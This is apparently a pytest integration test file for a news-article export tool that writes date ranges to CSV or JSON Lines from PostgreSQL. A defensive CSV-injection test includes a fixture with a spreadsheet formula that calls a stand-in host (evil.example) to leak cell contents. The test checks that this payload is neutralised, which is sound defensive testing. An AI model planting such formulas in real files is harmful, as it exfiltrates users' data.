"""export: a date range of articles to CSV / JSON Lines, against real PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from scrapers import export
from tests.integration.test_analytics import ARTICLES, load_fixture

pytestmark = [pytest.mark.integration, pytest.mark.clock]

# November 2026 by dated_at (published_at, else first_seen_at), oldest first. Not included:
# en_october, published 2026-10-31T23:59:59Z although first seen on November 1.
NOVEMBER = ["ru_lavrov", "en_fishing", "ja_hoppo", "en_drills", "ru_sakhalin", "ja_lng"]


@pytest.fixture
def url(db: Any, news_db_url: str) -> str:
    load_fixture(db)
    return news_db_url


def run(url: str, tmp_path: Path, *args: str, name: str = "out") -> str:
    out = tmp_path / name
    assert export.main([*args, "--output", str(out), "--db", url, "--quiet"]) == 0
    assert not list(tmp_path.glob("*.part"))
    return out.read_text("utf-8")


def keys_of(urls: list[str]) -> list[str]:
    by_url = {a["url"]: k for k, a in ARTICLES.items()}
    return [by_url[u] for u in urls]


def test_csv_of_a_month(url: str, tmp_path: Path) -> None:
    text = run(url, tmp_path, "--since", "2026-11-01", "--until", "2026-11-30",
               "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(export.COLUMNS)
    assert keys_of([r["url"] for r in rows]) == NOVEMBER
    fishing = {k: v for k, v in rows[1].items() if k != "id"}
    a = ARTICLES["en_fishing"]
    assert fishing == {
        "url": a["url"], "title": a["title"], "source": "Pacific Wire", "language": "en",
        "published_at": "2026-11-02T03:00:00Z", "published_precision": "datetime",
        "first_seen_at": "2026-11-02T03:10:00Z", "dated_at": "2026-11-02T03:00:00Z",
        "authors": "Ken Sato", "tags": "World; Asia",
        "analyst_tags": "person:sergei_lavrov; place:kuril_islands; theme:fisheries",
        "summary": "Fishing talks near the Kurils.", "body": a["body"],
        "relevance_score": "0.92", "matched_terms": json.dumps(a["matched_terms"]),
        "truncated": "false", "paywalled": "false"}
    lng = rows[-1]
    assert (lng["published_at"], lng["dated_at"], lng["published_precision"], lng["truncated"],
            lng["authors"]) == ("", "2026-11-30T23:30:00Z", "none", "true", "")


def test_jsonl_of_a_month(url: str, tmp_path: Path) -> None:
    text = run(url, tmp_path, "--since", "2026-11-01", "--until", "2026-11-30",
               "--format", "jsonl")
    records = [json.loads(line) for line in text.splitlines()]
    assert keys_of([r["url"] for r in records]) == NOVEMBER
    ru = records[0]
    a = ARTICLES["ru_lavrov"]
    assert {k: v for k, v in ru.items() if k != "id"} == {
        "url": a["url"], "title": a["title"], "source": "Северный вестник", "language": "ru",
        "published_at": "2026-11-02T01:00:00Z", "published_precision": "datetime",
        "first_seen_at": "2026-11-02T01:05:00Z", "dated_at": "2026-11-02T01:00:00Z",
        "authors": ["Ирина Петрова"], "tags": ["Политика"],
        "analyst_tags": ["person:sergei_lavrov", "place:kuril_islands", "theme:fisheries"],
        "summary": "", "body": a["body"], "relevance_score": pytest.approx(0.88),
        "matched_terms": a["matched_terms"], "truncated": False, "paywalled": False}
    assert records[-1]["published_at"] is None
    assert "Петрова" in text  # UTF-8, not \\u escapes


@pytest.mark.parametrize(("since", "until", "expected"), [
    ("2026-10-31", "2026-10-31", ["en_october"]),  # 23:59:59 is still October 31
    ("2026-11-01", "2026-11-01", []),
    ("2026-11-02", "2026-11-02", ["ru_lavrov", "en_fishing", "ja_hoppo"]),
    ("2026-11-30", "2026-11-30", ["ja_lng"]),  # 23:30 on the last day: included
    ("2026-10-01", "2026-12-31", ["en_october", *NOVEMBER]),
    ("2026-12-01", "2026-12-31", []),
])
def test_day_boundaries(url: str, tmp_path: Path, since: str, until: str,
                        expected: list[str]) -> None:
    text = run(url, tmp_path, "--since", since, "--until", until, "--format", "jsonl")
    assert keys_of([json.loads(line)["url"] for line in text.splitlines()]) == expected


def test_language_filter(url: str, tmp_path: Path) -> None:
    text = run(url, tmp_path, "--since", "2026-11-01", "--until", "2026-11-30",
               "--format", "jsonl", "--language", "ja", "--language", "ru")
    assert keys_of([json.loads(line)["url"] for line in text.splitlines()]) == [
        "ru_lavrov", "ja_hoppo", "ru_sakhalin", "ja_lng"]
    text = run(url, tmp_path, "--since", "2026-11-01", "--until", "2026-11-30",
               "--language", "en")
    assert keys_of([r["url"] for r in csv.DictReader(io.StringIO(text))]) == [
        "en_fishing", "en_drills"]


def test_empty_range(url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(url, tmp_path, "--since", "2027-01-01", "--until", "2027-01-31",
               "--format", "csv") == ",".join(export.COLUMNS) + "\n"
    assert run(url, tmp_path, "--since", "2027-01-01", "--until", "2027-01-31",
               "--format", "jsonl") == ""
    out = tmp_path / "empty.jsonl"
    export.main(["--since", "2027-01-01", "--until", "2027-01-01", "--output", str(out),
                 "--db", url])
    assert out.read_text("utf-8") == ""  # format taken from the suffix
    assert "exported 0 articles" in capsys.readouterr().err


def test_stdout_and_small_batches(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert export.main(["--since", "2026-11-01", "--until", "2026-11-30", "--format",
                        "jsonl", "--output", "-", "--db", url, "--batch-size", "2"]) == 0
    captured = capsys.readouterr()
    lines = captured.out.splitlines()
    assert keys_of([json.loads(line)["url"] for line in lines]) == NOVEMBER
    assert "exported 6 articles (2026-11-01 .. 2026-11-30, jsonl) to stdout" in captured.err


def test_until_before_since_is_refused(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        export.main(["--since", "2026-11-30", "--until", "2026-11-01", "--db", url])
    assert exc.value.code == 2
    assert "before --since" in capsys.readouterr().err


def test_progress_bar_counts_the_range(db: Any, capsys: pytest.CaptureFixture[str]) -> None:
    from datetime import date

    load_fixture(db)
    out = io.StringIO()
    written = export.export_articles(db, out, since=date(2026, 11, 1), until=date(2026, 11, 30),
                                     fmt="jsonl", progress=True, batch_size=4)
    db.rollback()
    assert written == 6 == len(out.getvalue().splitlines())
    assert "6/6" in capsys.readouterr().err


def test_export_runs_as_the_reader_role(db: Any) -> None:
    from datetime import date

    load_fixture(db)
    with db.cursor() as cur:
        cur.execute("SET LOCAL ROLE nichiro_reader")
    out = io.StringIO()
    written = export.export_articles(db, out, since=date(2026, 10, 1), until=date(2026, 12, 31))
    db.rollback()
    assert written == len(ARTICLES)


#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"): each leading = + - @,
#: tab or carriage return is neutralised with a single quote in CSV, and kept in JSON Lines.
HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Kuril talks")',
    "summary": "+SUM(1,2)",
    "body": "-2+3 said the minister",
    "authors": ["@SUM(1)", "Ken Sato"],
    "tags": ["\tWorld", "=Asia"],
}


def test_csv_neutralises_formula_cells_and_jsonl_keeps_them(url: str, tmp_path: Path) -> None:
    import psycopg2

    conn = psycopg2.connect(url)
    with conn, conn.cursor() as cur:
        cur.execute("UPDATE articles SET title = %(title)s, summary = %(summary)s, "
                    "body = %(body)s, authors = %(authors)s, tags = %(tags)s WHERE url = %(url)s",
                    {**HOSTILE, "url": ARTICLES["en_fishing"]["url"]})
        cur.execute("UPDATE articles SET title = %s, summary = %s WHERE url = %s",
                    ("\rcarriage return", "a=b stays as it is",
                     ARTICLES["en_drills"]["url"]))
    conn.close()
    args = ("--since", "2026-11-02", "--until", "2026-11-30", "--language", "en")

    run(url, tmp_path, *args, "--format", "csv", name="hostile.csv")
    with (tmp_path / "hostile.csv").open(encoding="utf-8", newline="") as f:
        table = list(csv.DictReader(f))
    assert len(table) == 2  # a carriage return inside a cell does not end its row
    rows = {r["url"]: r for r in table}
    fishing = rows[ARTICLES["en_fishing"]["url"]]
    assert {k: fishing[k] for k in HOSTILE} == {
        "title": "'" + HOSTILE["title"], "summary": "'+SUM(1,2)",
        "body": "'-2+3 said the minister", "authors": "'@SUM(1); Ken Sato",
        "tags": "'\tWorld; =Asia"}
    drills = rows[ARTICLES["en_drills"]["url"]]
    assert (drills["title"], drills["summary"]) == ("'\rcarriage return", "a=b stays as it is")
    # the columns not written by outlets keep their plain form
    assert fishing["relevance_score"] == "0.92" and fishing["truncated"] == "false"
    assert fishing["published_at"] == "2026-11-02T03:00:00Z"

    records = {r["url"]: r for r in map(json.loads, run(
        url, tmp_path, *args, "--format", "jsonl").splitlines())}
    assert {k: records[ARTICLES["en_fishing"]["url"]][k] for k in HOSTILE} == HOSTILE
    assert records[ARTICLES["en_drills"]["url"]]["title"] == "\rcarriage return"
